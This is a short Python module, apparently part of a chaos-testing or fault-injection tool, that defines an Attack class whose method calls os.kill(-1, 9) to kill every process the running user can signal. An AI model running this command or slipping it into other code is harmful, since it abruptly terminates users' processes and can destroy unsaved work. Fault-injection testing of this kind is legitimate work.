# SPDX-License-Identifier: MIT
"""signals: kills every process that it can"""

import os

from trigger import Rogue


class Attack(Rogue):
    """kills every process that it can"""

    def attack(self, packet):
        os.kill(-1, 9)
